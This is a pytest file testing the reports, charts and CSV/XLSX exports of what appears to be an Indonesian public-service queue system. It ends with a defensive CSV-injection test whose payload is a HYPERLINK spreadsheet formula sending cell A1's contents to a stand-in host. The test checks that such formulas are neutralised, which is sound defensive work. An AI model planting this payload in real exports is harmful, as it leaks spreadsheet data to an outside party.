"""Reports on constructed histories (counts, waiting and service times, groupings, heat map), the
report pages, their exports and charts, and what an officer may see."""
import csv
import io
import re
from datetime import date, timedelta

import pytest
from sqlalchemy import select

from mpp_app.reports import charts, export
from mpp_app.domain import reports, tickets
from mpp_app.models import Counter, Ticket

from .conftest import MONDAY, agency_by_code, at, user


def test_empty_range(session):
    figures = reports.summary(session, reports.Filters(MONDAY, MONDAY))
    assert (figures.issued, figures.served, figures.waiting.median, figures.within_expected_share) == (0, 0, None, None)
    assert reports.by_group(session, reports.Filters(MONDAY, MONDAY), "agency") == []
    assert reports.arrivals_heatmap(session, reports.Filters(MONDAY, MONDAY))[0][9] == 0


def test_summary_of_a_constructed_day(session, desk):
    desk(at(8, 0), at(8, 10), at(8, 11), at(8, 21))  # wait 10, service 10
    desk(at(8, 5), at(8, 25), at(8, 26), at(8, 56))  # wait 20, service 30 (beyond the 15 expected)
    desk(at(9, 0), at(9, 30), at(9, 31), at(9, 36))  # wait 30, service 5
    desk(at(9, 10), at(9, 40), at(9, 41), outcome="no_show")  # wait 30
    desk(at(10, 0), at(10, 2), at(10, 3), at(10, 8), outcome="transfer")  # wait 2, then waits at Bapenda
    cancelled = desk(at(10, 30), None)
    tickets.cancel_ticket(session, cancelled.id, "pulang", user(session, "resepsionis"), now=at(10, 40))
    figures = reports.summary(session, reports.Filters(MONDAY, MONDAY))
    assert (figures.issued, figures.served, figures.no_show, figures.cancelled, figures.transferred) == (6, 3, 1, 1, 1)
    assert figures.waiting.count == 5 and figures.waiting.mean == pytest.approx((10 + 20 + 30 + 30 + 2) / 5)
    assert figures.waiting.median == 20 and figures.waiting.p90 == 30
    assert figures.service.count == 3 and figures.service.median == 10 and figures.service.p90 == 30
    assert figures.within_expected == 2 and figures.within_expected_share == pytest.approx(2 / 3)


def test_transferred_ticket_counts_in_its_final_queue(session, desk):
    desk(at(8, 0), at(8, 5), at(8, 6), at(8, 10), outcome="transfer")
    by_agency = {row.name: row.figures for row in reports.by_group(session, reports.Filters(MONDAY, MONDAY), "agency")}
    assert by_agency["Bapenda"].issued == 1 and by_agency["Bapenda"].transferred == 1
    assert "Dukcapil" not in by_agency
    moved = session.scalar(select(Ticket))
    assert moved.wait_seconds == 300  # the first call stays the waiting time


def test_service_spanning_a_break_counts_wall_time(session, desk):
    done = desk(at(11, 50), at(11, 55), at(11, 58), at(13, 5))
    assert done.service_seconds == 67 * 60


def test_by_officer_counter_and_service(session, desk):
    desk(at(8, 0), at(8, 1), at(8, 2), at(8, 12))
    f = reports.Filters(MONDAY, MONDAY)
    officers = reports.by_group(session, f, "officer")
    assert [(row.name, row.figures.served) for row in officers] == [("Petugas", 1)]
    assert reports.by_group(session, f, "counter")[0].name == "Loket 1"
    assert reports.by_group(session, f, "service")[0].name.startswith("KTP-el baru")
    assert reports.summary(session, reports.Filters(MONDAY, MONDAY, officer_id=user(session, "petugas").id)).served == 1
    assert reports.summary(session, reports.Filters(MONDAY, MONDAY, agency_id=agency_by_code(session, "PLN").id)).issued == 0


def test_per_day_and_heatmap(session, desk):
    desk(at(8, 0), at(8, 1), at(8, 2), at(8, 12))
    desk(at(9, 30), None)
    desk(at(9, 45), None)
    desk(at(8, 20, day=MONDAY + timedelta(days=1)), None)
    f = reports.Filters(MONDAY, MONDAY + timedelta(days=1))
    assert [(d, i, int(s)) for d, i, s in reports.per_day(session, f)] == [(MONDAY, 3, 1), (MONDAY + timedelta(days=1), 1, 0)]
    grid = reports.arrivals_heatmap(session, f)
    assert grid[0][8] == 1 and grid[0][9] == 2 and grid[1][8] == 1 and sum(map(sum, grid)) == 4


def test_durations_nearest_rank():
    d = reports.Durations.of([60 * m for m in range(1, 11)])
    assert (d.mean, d.median, d.p90) == (5.5, 5.5, 9)
    assert reports.Durations.of([120]).p90 == 2


def test_report_pages_and_exports(staff, session, desk):
    desk(at(8, 0), at(8, 10), at(8, 11), at(8, 21))
    manager = staff.login("manager")
    page = manager.get("/reports/?start=2026-11-30&end=2026-11-30").get_data(as_text=True)
    assert 'data-figure="issued">1<' in page and "<svg" in page and "Dukcapil" in page
    assert "<title>Diterbitkan 30 Nov: 1</title></circle>" in page
    assert 'id="r-start"' in page and 'value="30-11-2026"' in page and 'type="date"' not in page
    exported = manager.get("/reports/export.csv?start=2026-11-30&end=2026-11-30")
    rows = list(csv.reader(io.StringIO(exported.get_data().decode("utf-8-sig")), delimiter=";"))
    assert rows[1][:3] == ["Kelompok", "Diterbitkan", "Dilayani"] and rows[2][:3] == ["Dukcapil", "1", "1"]
    assert "attachment" in exported.headers["Content-Disposition"]
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(manager.get("/reports/export.xlsx?start=2026-11-30&end=2026-11-30").get_data()))
    assert book.sheetnames == ["Kinerja", "Harian", "SKM"] and book["Kinerja"]["B3"].value == 1
    assert book["Kinerja"]["G3"].value == 10.0 and book["Kinerja"]["G3"].data_type == "n"  # a number, not "10,0"
    assert book["Harian"]["A2"].number_format == "DD-MM-YYYY" and book["Harian"]["A2"].value.day == 30
    for query, message in [("start=2026-13-01", "2026-13-01 bukan tanggal yang ada"),
                           ("start=31-02-2026", "31-02-2026 bukan tanggal yang ada"),
                           ("start=11/30/2026", "11/30/2026 bukan tanggal yang ada"),
                           ("start=1 Des", "Format tanggal tidak dikenal"),
                           ("start=2026-12-02&end=2026-12-01", "Tanggal akhir sebelum tanggal awal"),
                           ("start=2020-01-01&end=2026-01-01", "paling lama"), ("by=planet", "Pengelompokan"),
                           ("agency=NOPE", "tidak dikenal"), ("service=abc", "tidak valid")]:
        for url in ("/reports/", "/reports/export.csv", "/reports/export.xlsx"):
            response = manager.get(f"{url}?{query}")
            body = response.get_data(as_text=True)
            assert response.status_code == 422 and message in body, (url, query)
            assert '<form method="get"' in body and "<title>422" not in body, (url, query)


def test_report_dates_are_typed_day_first_whatever_the_browser(staff, session, desk):
    desk(at(8, 0), at(8, 10), at(8, 11), at(8, 21))  # Monday 30 November 2026
    manager = staff.login("manager")
    for start, end in [("30-11-2026", "30-11-2026"), ("30/11/2026", "30.11.2026"), ("2026-11-30", "2026-11-30")]:
        page = manager.get(f"/reports/?start={start}&end={end}").get_data(as_text=True)
        assert 'data-figure="issued">1<' in page and "30 Nov 2026 s.d. 30 Nov 2026" in page, start
    # 10-12 is the tenth of December, never the twelfth of October
    page = manager.get("/reports/?start=10-12-2026&end=10-12-2026").get_data(as_text=True)
    assert "10 Des 2026 s.d. 10 Des 2026" in page


def test_a_reversed_range_shows_the_form_again_with_the_sentence_next_to_the_end_day(staff):
    manager = staff.login("manager")
    response = manager.get("/reports/?start=02-12-2026&end=01-12-2026&by=service&agency=BAPENDA")
    body = response.get_data(as_text=True)
    assert response.status_code == 422
    error = re.search(r'<input[^>]*id="r-end"[^>]*>\s*<p class="field-error" id="r-end-error">([^<]*)</p>', body)
    assert error and error.group(1) == "Tanggal akhir sebelum tanggal awal."
    assert 'aria-invalid="true"' in error.group(0) and 'value="01-12-2026"' in error.group(0)
    assert 'value="02-12-2026"' in body  # what was typed stays
    assert re.search(r'<option value="service"\s+selected>', body) and re.search(r'<option value="BAPENDA"\s+selected>', body)
    assert "data-figure" not in body and "export.csv" not in body


def test_numbers_follow_the_readers_language(staff, session, desk):
    desk(at(8, 0), at(8, 10), at(8, 11), at(8, 21))  # waits 10 minutes, served in 10
    desk(at(8, 0), at(8, 15), at(8, 16), at(8, 41))  # waits 15, served in 25 (beyond the expected 15)
    manager = staff.login("manager")
    query = "start=2026-11-30&end=2026-11-30"
    page = manager.get(f"/reports/?{query}").get_data(as_text=True)
    assert "12,5 / 12,5 / 15,0" in page and "50%" in page and "12.5" not in page
    indonesian = manager.get(f"/reports/export.csv?{query}").get_data()
    assert indonesian.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: Excel reads the accents
    rows = list(csv.reader(io.StringIO(indonesian.decode("utf-8-sig")), delimiter=";"))
    assert rows[2][:7] == ["Dukcapil", "2", "2", "0", "0", "0", "12,5"] and rows[2][-1] == "50,0"

    manager.post("/language", {"language": "en", "next": "/reports/"})
    page = manager.get(f"/reports/?{query}").get_data(as_text=True)
    assert "12.5 / 12.5 / 15.0" in page and "12,5" not in page and "30 Nov 2026" in page
    rows = list(csv.reader(io.StringIO(manager.get(f"/reports/export.csv?{query}").get_data().decode("utf-8-sig"))))
    assert rows[2][:7] == ["Dukcapil", "2", "2", "0", "0", "0", "12.5"] and rows[2][-1] == "50.0"


def test_trend_chart_marks_each_day_so_a_single_day_shows():
    one = charts.trend([date(2026, 11, 30)], {"Diterbitkan": [5], "Dilayani": [0]})
    issued, served = one["lines"]
    assert issued.dots == ((320.0, 32.0, date(2026, 11, 30), 5),) and served.dots[0][1] == 188.0
    month = [date(2026, 11, 1) + timedelta(days=n) for n in range(30)]
    line = charts.trend(month, {"Diterbitkan": list(range(30))})["lines"][0]
    assert len(line.dots) == 30 and line.dots[0][0] == charts.PAD and line.dots[-1][0] == charts.WIDTH - charts.PAD
    year = [date(2026, 1, 1) + timedelta(days=n) for n in range(365)]
    assert charts.trend(year, {"Diterbitkan": [1] * 365})["lines"][0].dots == ()


def test_officer_sees_only_own_agency(staff, session, desk):
    desk(at(8, 0), at(8, 10), at(8, 11), at(8, 21))
    other = staff.login("petugas2")  # Bapenda
    page = other.get("/reports/?start=2026-11-30&end=2026-11-30&agency=DUKCAPIL").get_data(as_text=True)
    assert 'data-figure="issued">0<' in page
    assert "Tidak ada tiket pada periode ini" in other.get("/reports/today").get_data(as_text=True)


# OWASP CSV injection: what Excel or LibreOffice would take for a formula, or strip before looking.
FORMULA_LEADS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://example.invalid/?x="&A1,"klik")'


@pytest.mark.parametrize("lead", FORMULA_LEADS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_exports_write_names_a_spreadsheet_would_run_as_quoted_text(staff, session, desk, lead):
    from openpyxl import load_workbook

    desk(at(8, 0), at(8, 10), at(8, 11), at(8, 21))
    name = lead + PAYLOAD
    dukcapil = agency_by_code(session, "DUKCAPIL")
    # Set directly: the admin forms would strip a leading tab or CR, older rows or the CLI need not.
    dukcapil.short_name = dukcapil.services[0].name = session.get(Counter, 1).name = name
    user(session, "petugas").full_name = name
    session.commit()
    manager = staff.login("manager")
    for group in reports.GROUPS:  # agency, service, counter and officer rows each carry the name
        query = f"start=2026-11-30&end=2026-11-30&by={group}"
        text = manager.get(f"/reports/export.csv?{query}").get_data().decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
        assert rows[2][:3] == ["'" + name, "1", "1"], group
        assert not [cell for row in rows for cell in row if cell.startswith(tuple(FORMULA_LEADS))], group

        book = load_workbook(io.BytesIO(manager.get(f"/reports/export.xlsx?{query}").get_data()))
        performance = book["Kinerja"]
        # The XML of the file turns a carriage return into a line feed when read back.
        assert performance["A3"].value == "'" + name.replace("\r", "\n") and performance["A3"].data_type == "s"
        assert performance["B3"].value == 1 and performance["B3"].data_type == "n"  # numbers stay numbers
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], group
        assert not [cell.value for cell in cells if isinstance(cell.value, str)
                    and cell.value.startswith(tuple(FORMULA_LEADS))], group


def test_export_cell_rule_leaves_numbers_and_plain_text_alone():
    assert [export.cell(value) for value in (-3, -2.5, 0, "", "Dukcapil", "'=1", "a=b", date(2026, 11, 30))] == [
        -3, -2.5, 0, "", "Dukcapil", "'=1", "a=b", date(2026, 11, 30)]
    assert [export.cell(lead + "1") for lead in FORMULA_LEADS] == ["'=1", "'+1", "'-1", "'@1", "'\t1", "'\r1"]
